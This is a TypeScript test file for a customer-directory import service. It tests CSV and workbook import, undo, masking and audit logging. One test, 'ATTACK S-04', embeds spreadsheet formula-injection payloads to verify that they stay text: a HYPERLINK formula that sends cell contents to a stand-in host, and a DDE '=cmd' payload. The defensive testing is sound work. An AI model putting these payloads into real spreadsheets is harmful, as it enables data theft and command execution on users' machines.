import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { readXlsx, writeXlsx } from 'hucre/xlsx';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { Refusal } from '#shared/protocol/appError.ts';
import { sql } from '#service/db/sql.ts';
import { customersTable, importRunsTable, metersTable, premisesTable, transformerAreasTable, villagesTable } from '#service/features/directory/directory.records.ts';
import { findByAccount, findHousehold } from '#service/features/directory/directory.store.ts';
import { dropStage } from '#service/features/directory/importStage.ts';
import { openDirectoryDesk, type DirectoryDesk } from '#tests/support/directoryDesk.ts';
import { openTestStore } from '#tests/support/openTestStore.ts';
import { replayInto, wholeTables } from '#tests/support/replay.ts';

const tables = [customersTable, premisesTable, metersTable, villagesTable, transformerAreasTable, importRunsTable];
const headings = '户号,户名,用电地址,村/社区,台区编号,台区名称,城乡类别,电能表号,联系电话,立户日期,备注\n';
const wang = '1100007000013,王小明,下泉村3组28号,下泉村,N157,下泉村2号台区,农村,420377677636,13812345678,2017-02-01,\n';
const li = '1100007000026,李示例,北关社区20号楼,北关社区,C079,北关社区4号台区,城区,903059935770,,1991-09-26,特困\n';

let desk: DirectoryDesk;
beforeEach(() => {
  desk = openDirectoryDesk();
});
afterEach(async () => {
  await desk.dispose();
});
const errorOf = async (act: Promise<unknown>): Promise<unknown> => {
  try {
    await act;
    return 'done';
  } catch (error) {
    if (error instanceof Refusal) return error.error;
    throw error;
  }
};
/** A customer in clear with places and meters. */
const stored = (account: string) => {
  const row = findByAccount(desk.test.store, account);
  const household = row && findHousehold(desk.test.store, row.id);
  return household && {
    id: household.customer.id, version: household.customer.version, name: household.customer.name, phones: JSON.parse(household.customer.phones) as unknown, note: household.customer.note, openedOn: household.customer.opened_on,
    places: household.premises.map((premise) => ({ address: premise.address, areaClass: premise.area_class, listed: premise.listed_area_name, meters: household.meters.filter((meter) => meter.premise_id === premise.id).map((meter) => meter.meter_no) })),
  };
};
const figures = (end: { created: number; changed: number; unchanged: number; kept: number }): string => [end.created, end.changed, end.unchanged, end.kept].join();

describe('a newer list', () => {
  test('changes what it says otherwise and empties nothing it leaves blank', async () => {
    await desk.importAll(headings + wang + li);
    const { end, preview } = await desk.importAll(`${headings}1100007000013,王小明,下泉村3组30号,下泉村,N157,下泉村2号台区,农村,,13900000000,,新备注\n${li}`);
    expect([figures(end), preview.figures.changed, stored('1100007000013')]).toEqual(['0,1,1,0', 1, {
      id: stored('1100007000013')?.id, version: 2, name: '王小明', phones: ['13900000000', '13812345678'], note: '新备注', openedOn: '2017-02-01',
      places: [{ address: '下泉村3组30号', areaClass: 'rural', listed: null, meters: ['420377677636'] }],
    }]);
  });
  test('keeps another name out unless new names are asked for', async () => {
    await desk.importAll(headings + wang + li);
    const renamed = headings + wang.replace('王小明', '王大明') + li;
    const kept = await desk.importAll(renamed);
    expect([figures(kept.end), kept.preview.figures.renamed, stored('1100007000013')?.name]).toEqual(['0,0,1,1', 1, '王小明']);
    const { rows } = await desk.call('downloadRefused', { runId: kept.end.runId, language: 'en' });
    expect(rows).toBe(1);
    const taken = await desk.importAll(renamed, true);
    expect([figures(taken.end), stored('1100007000013')?.name]).toEqual(['0,1,1,0', '王大明']);
  });
  test('shows an exchanged meter as exchanged, a second one as second', async () => {
    await desk.importAll(headings + wang);
    await desk.importAll(headings + wang.replace('420377677636', '777700001111'));
    expect(stored('1100007000013')?.places).toEqual([{ address: '下泉村3组28号', areaClass: 'rural', listed: null, meters: ['777700001111'] }]);
    const both = wang.replace('420377677636', '777700001111') + wang.replace('420377677636', '888800002222').replace('3组28号', '3组29号机井');
    expect(figures((await desk.importAll(headings + both)).end)).toBe('0,1,0,0');
    expect(stored('1100007000013')?.places.map((place) => [place.address, ...place.meters])).toEqual([['下泉村3组28号', '777700001111'], ['下泉村3组29号机井', '888800002222']]);
    expect(figures((await desk.importAll(headings + both)).end)).toBe('0,0,1,0');
  });
  test('one area code with two names keeps both', async () => {
    await desk.importAll(headings + wang + li.replace('C079,北关社区4号台区', 'N157,北关社区4号台区'));
    expect([stored('1100007000013')?.places[0]?.listed, stored('1100007000026')?.places[0]?.listed]).toEqual([null, '北关社区4号台区']);
  });
});

describe('undo', () => {
  test('puts changed customers back, takes new ones out, leaves those a person changed since', async () => {
    await desk.importAll(headings + wang);
    const before = stored('1100007000013');
    const second = await desk.importAll(`${headings}${wang.replace('13812345678', '13900000000').replace('下泉村3组28号', '下泉村9组1号')}${li}1100007000039,赵示例,,,,,,,,,\n`);
    const zhao = stored('1100007000039');
    await desk.call('saveCustomer', { id: zhao?.id ?? '', expectedVersion: 1, note: '柜台改过' });
    const end = await desk.undo(second.end.runId);
    expect([end.state, end.kept, stored('1100007000026'), stored('1100007000039')?.note]).toEqual(['undone', 1, undefined, '柜台改过']);
    expect({ ...stored('1100007000013'), version: 0 }).toEqual({ ...before, version: 0 });
    expect((await desk.importAll(headings + li)).end.created).toBe(1);
  });
  test('what an undo would put back is not kept in clear, and not at all once it was put back', async () => {
    await desk.importAll(headings + wang);
    const second = await desk.importAll(headings + wang.replace('13812345678', '13900000000'));
    const kept = (): (string | null)[] => desk.test.store.all(sql`SELECT before FROM import_changes`, z.strictObject({ before: z.string().nullable() })).map((row) => row.before);
    expect([kept().length, kept().filter((before) => before !== null).length]).toEqual([1, 1]);
    expect(['王小明', '13812345678', '1100007000013', '3组28号', '420377677636', 'customer'].filter((canary) => kept().join().includes(canary))).toEqual([]);
    await desk.undo(second.end.runId);
    expect([stored('1100007000013')?.phones, kept()]).toEqual([['13812345678'], []]);
  });
  test('S-16 rows left outside are sealed, their workbook still says what the file said, and they go with the undo', async () => {
    const { end } = await desk.importAll(`${headings}${wang}1100007000052,钱示例丁,,,,,,,1380000,,\n`);
    const rows = (): string => desk.test.store.all(sql`SELECT sealed FROM import_rows`, z.strictObject({ sealed: z.string() })).map((row) => row.sealed).join();
    expect([rows().length > 100, ['钱示例丁', '1100007000052', '1380000', '户名', 'phone'].filter((canary) => rows().includes(canary))]).toEqual([true, []]);
    const { token } = await desk.call('downloadRefused', { runId: end.runId, language: 'zh' });
    const sheet = (await readXlsx(readFileSync(join(desk.test.folder, 'outbox', token)))).sheets[0];
    expect(sheet?.rows[1]?.slice(0, 2)).toEqual(['1100007000052', '钱示例丁']);
    await desk.undo(end.runId);
    expect(rows()).toBe('');
    expect(await errorOf(desk.call('downloadRefused', { runId: end.runId, language: 'zh' }))).toMatchObject({ reason: 'IMPORT_NOTHING_REFUSED' });
  });
  test('only an import whose changes still stand is offered: after an undo nothing, and one that changed nothing hides none', async () => {
    const offered = async (): Promise<string | null> => (await desk.call('getOverview', {})).undoRunId;
    const first = await desk.importAll(headings + wang);
    expect(await offered()).toBe(first.end.runId);
    await desk.importAll(headings + wang);
    expect(await offered()).toBe(first.end.runId);
    const second = await desk.importAll(headings + li);
    expect(await offered()).toBe(second.end.runId);
    await desk.undo(second.end.runId);
    expect(await offered()).toBe(null);
    expect(await errorOf(desk.call('undoLastImport', { runId: first.end.runId, from: 0 }))).toMatchObject({ reason: 'IMPORT_NOT_LAST' });
    expect(stored('1100007000013')?.name).toBe('王小明');
  });
  test('only the newest import that changed something can be taken back, once', async () => {
    const first = await desk.importAll(headings + wang);
    const second = await desk.importAll(headings + li);
    expect(await errorOf(desk.call('undoLastImport', { runId: first.end.runId, from: 0 }))).toMatchObject({ reason: 'IMPORT_NOT_LAST' });
    await desk.undo(second.end.runId);
    expect(await errorOf(desk.call('undoLastImport', { runId: second.end.runId, from: 0 }))).toMatchObject({ code: 'REFUSED', reason: 'IMPORT_NOT_LAST' });
  });
});

const many = headings + Array.from({ length: 400 }, (_, i) => `11000070${String(10_000 + i)},客户${'甲乙丙丁戊'[i % 5] ?? ''},平安社区${String(i)}号,平安社区,C001,平安1号,城区,5555${String(10_000 + i)},,,\n`).join('');

describe('a run in portions', () => {
  test('can be stopped in between; what was taken stays and can be undone', async () => {
    const look = await desk.call('startImport', { token: desk.stage(many), fileName: 'a.csv' });
    await desk.call('previewImport', { runId: look.runId, headingRow: 0, mapping: look.mapping });
    const first = await desk.call('commitImport', { runId: look.runId, takeNewNames: false, from: 0 });
    expect([first.state, first.created > 0 && first.created < 400]).toEqual(['taking', true]);
    const stopped = await desk.call('stopImport', { runId: look.runId });
    expect([stopped.state, readdirSync(join(desk.test.folder, 'intake'))]).toEqual(['stopped', []]);
    expect(await errorOf(desk.call('commitImport', { runId: look.runId, takeNewNames: false, from: first.done }))).toMatchObject({ reason: 'IMPORT_STATE' });
    const end = await desk.undo(look.runId);
    expect([end.state, end.kept, stored('1100007010000')]).toEqual(['undone', 0, undefined]);
  });
  test('goes on after the service was started anew, and no portion is taken twice', async () => {
    const look = await desk.call('startImport', { token: desk.stage(many), fileName: 'a.csv' });
    await desk.call('previewImport', { runId: look.runId, headingRow: 0, mapping: look.mapping });
    const first = await desk.call('commitImport', { runId: look.runId, takeNewNames: false, from: 0 });
    dropStage(look.runId);
    expect(await errorOf(desk.call('commitImport', { runId: look.runId, takeNewNames: false, from: 0 }))).toMatchObject({ reason: 'IMPORT_STATE' });
    let next = await desk.call('commitImport', { runId: look.runId, takeNewNames: false, from: first.done });
    while (next.state === 'taking') next = await desk.call('commitImport', { runId: look.runId, takeNewNames: false, from: next.done });
    expect([next.state, next.created]).toEqual(['taken', 400]);
  });
});

describe('bad input', () => {
  test('a mapping without account, a field twice, a gone file and a hostile file are refused by name, nothing is kept', async () => {
    const look = await desk.call('startImport', { token: desk.stage(headings + wang), fileName: 'a.csv' });
    expect(await errorOf(desk.call('previewImport', { runId: look.runId, headingRow: 0, mapping: ['name', 'name'] }))).toMatchObject({ reason: 'IMPORT_MAPPING', params: { missing: 'accountNo', twice: 'name' } });
    expect(await errorOf(desk.call('startImport', { token: '00000000-0000-4000-8000-000000000000', fileName: 'a.csv' }))).toMatchObject({ reason: 'IMPORT_FILE_GONE' });
    expect(await errorOf(desk.call('startImport', { token: desk.stage(Buffer.from('d0cf11e0a1b11ae100000000', 'hex')), fileName: 'a.xls' }))).toMatchObject({ reason: 'IMPORT_FILE', params: { fault: 'fileOldWorkbook', row: 0 } });
    expect(await errorOf(desk.call('startImport', { token: desk.stage(`${headings}1100007000013,"王\n${wang.repeat(3)}`), fileName: 'a.csv' }))).toMatchObject({ reason: 'IMPORT_FILE', params: { fault: 'fileQuoteOpen', row: 2 } });
    expect(stored('1100007000013')).toBeUndefined();
  });
  test('ATTACK S-04 formula signs stay text on the way in, in the workbook of refused rows, and on the way back', async () => {
    const evil = ['=HYPERLINK("http://x/?"&A1,"崔强")', '+1+1', '-2+3', '@SUM(A1)', '＝1+1', "=cmd|' /C calc'!A0"];
    const { end } = await desk.importAll(headings + evil.map((name, i) => `11000070001${String(i).padStart(2, '0')},"${name.replaceAll('"', '""')}",,,,,,,${i < 2 ? '' : '138'},,\n`).join(''));
    expect([stored('1100007000100')?.name, stored('1100007000101')?.name]).toEqual([evil[0], '+1+1']);
    const { token } = await desk.call('downloadRefused', { runId: end.runId, language: 'zh' });
    const bytes = readFileSync(join(desk.test.folder, 'outbox', token));
    const sheet = (await readXlsx(bytes)).sheets[0];
    expect(sheet?.rows.slice(1).map((row) => row[1])).toEqual(evil.slice(2));
    const corrected = await writeXlsx({ sheets: [{ name: 'x', rows: (sheet?.rows ?? []).map((row, i) => (i === 0 ? row : row.map((cell, column) => (column === 8 ? '13800000000' : cell)))) }] });
    const again = await desk.importAll(corrected);
    expect([again.look.mapping.slice(11), again.end.created, stored('1100007000104')?.name]).toEqual([[null, null, null], 4, '＝1+1']);
  });
  test('a workbook and a list in UTF-16 come in like the others, and a remembered mapping is used again', async () => {
    const cells = (headings + wang + li).trimEnd().split('\n').map((line) => line.split(','));
    expect((await desk.importAll(await writeXlsx({ sheets: [{ name: 'x', rows: [['标题'], ...cells] }] }))).end.created).toBe(2);
    const odd = '编码\t称谓\n1100007000039\t赵示例\n1100007000052\t钱示例\n1100007000065\t孙示例\n';
    const look = await desk.call('startImport', { token: desk.stage(Buffer.from(`\uFEFF${odd}`, 'utf16le')), fileName: 'b.txt' });
    expect([look.encoding, look.delimiter, look.headingRow, look.remembered]).toEqual(['utf-16le', '\t', null, false]);
    const preview = await desk.call('previewImport', { runId: look.runId, headingRow: 0, mapping: ['accountNo', 'name'] });
    expect(preview.figures.sound).toBe(3);
  });
});

test('the log alone rebuilds the directory, and holds no name, phone, account or meter in clear', async () => {
  const { end } = await desk.importAll(headings + wang + li);
  await desk.call('saveCustomer', { id: null, expectedVersion: null, name: '周示例丙', phones: ['13866668888'], place: { address: '示例东村2组', villageId: null, transformerAreaId: null, areaClass: 'remote', meterNo: '999988887777' } });
  const target = openTestStore();
  replayInto(desk.test.store, desk.test.keys, target.store, tables);
  expect(wholeTables(target.store, tables)).toEqual(wholeTables(desk.test.store, tables));
  await target.dispose();
  const lines = desk.test.store.all(sql`SELECT CAST(line AS TEXT) AS line FROM op_log UNION ALL SELECT fields FROM audit_log`, z.strictObject({ line: z.string() })).map((row) => row.line).join('\n');
  expect(['王小明', '13812345678', '1100007000013', '420377677636', '3组28号', '特困', '周示例丙', '13866668888', '999988887777', '客户清单.csv'].filter((canary) => lines.includes(canary))).toEqual([]);
  await desk.undo(end.runId);
});

describe('one customer', () => {
  test('R-PI-15 leaves the service masked', async () => {
    await desk.importAll(headings + wang);
    const id = stored('1100007000013')?.id ?? '';
    const view = await desk.call('getCustomer', { id });
    expect({ ...view, id: '', updatedAt: '', places: view.places.map((place) => ({ ...place, id: '' })) }).toEqual({
      id: '', version: 1, name: '王*', accountNo: '110*0013', customerType: 'other', phones: ['138****5678'], idNumber: null, uscc: null, openedOn: '2017-02-01', note: null, updatedAt: '', voided: false,
      places: [{ id: '', address: '下泉村*', villageName: '下泉村', areaCode: 'N157', areaName: '下泉村2号台区', listedAreaName: null, areaClass: 'rural', meters: ['*7636'] }],
    });
  });
  test('is refused with field and rule, all of them at once', async () => {
    expect(await errorOf(desk.call('saveCustomer', { id: null, expectedVersion: null, accountNo: '12', phones: ['138'], idNumber: '110101199002301236', uscc: '91350100M000100Y44', place: { address: 'x', villageId: null, transformerAreaId: null, areaClass: null, meterNo: '1' } }))).toMatchObject({
      code: 'VALIDATION', issues: [{ path: 'name' }, { path: 'accountNo', rule: 'accountLength' }, { path: 'phones.0', rule: 'phoneLength' }, { path: 'idNumber', rule: 'idNumberDate' }, { path: 'uscc', rule: 'usccCheck' }, { path: 'place.meterNo', rule: 'meterForm' }],
    });
  });
  test('an account belongs to one customer; a stale version is a conflict', async () => {
    const { id } = await desk.call('saveCustomer', { id: null, expectedVersion: null, name: '甲', accountNo: '1100007000013' });
    expect(await errorOf(desk.call('saveCustomer', { id: null, expectedVersion: null, name: '乙', accountNo: '1100007000013' }))).toMatchObject({ reason: 'DIRECTORY_ACCOUNT_TAKEN', params: { id } });
    await desk.call('saveCustomer', { id, expectedVersion: 1, note: '一' });
    expect(await errorOf(desk.call('saveCustomer', { id, expectedVersion: 1, note: '二' }))).toMatchObject({ code: 'CONFLICT', expectedVersion: 1, actualVersion: 2 });
  });
  test('R-PI-09 a look at a masked field needs a reason, is written down, and ends at sixty an hour', async () => {
    const { id } = await desk.call('saveCustomer', { id: null, expectedVersion: null, name: '甲', phones: ['13812345678'] });
    await expect(desk.call('revealField', { id, field: 'phone', reason: '看看' })).rejects.toThrow();
    expect(await desk.call('revealField', { id, field: 'phone', reason: '回电核对' })).toEqual({ value: '13812345678', seconds: 30, leftThisHour: 59 });
    expect(await errorOf(desk.call('revealField', { id, field: 'idNumber', reason: '回电核对' }))).toMatchObject({ reason: 'DIRECTORY_FIELD_EMPTY' });
    for (let i = 1; i < 60; i += 1) await desk.call('revealField', { id, field: 'name', reason: '回电核对' });
    expect(await errorOf(desk.call('revealField', { id, field: 'name', reason: '回电核对' }))).toMatchObject({ reason: 'DIRECTORY_REVEAL_LIMIT', params: { perHour: 60 } });
    const looks = desk.test.store.all(sql`SELECT outcome, object FROM audit_log WHERE act = 'reveal' ORDER BY seq`, z.strictObject({ outcome: z.string(), object: z.string() }));
    expect([looks.length, looks[0], looks[19]?.outcome, looks[20]?.outcome]).toEqual([60, { outcome: 'done:phone', object: id }, 'done:name', 'many:name']);
    desk.clock.set('2026-09-18T04:30:00.000Z');
    expect((await desk.call('revealField', { id, field: 'name', reason: '回电核对' })).leftThisHour).toBe(59);
  });
});
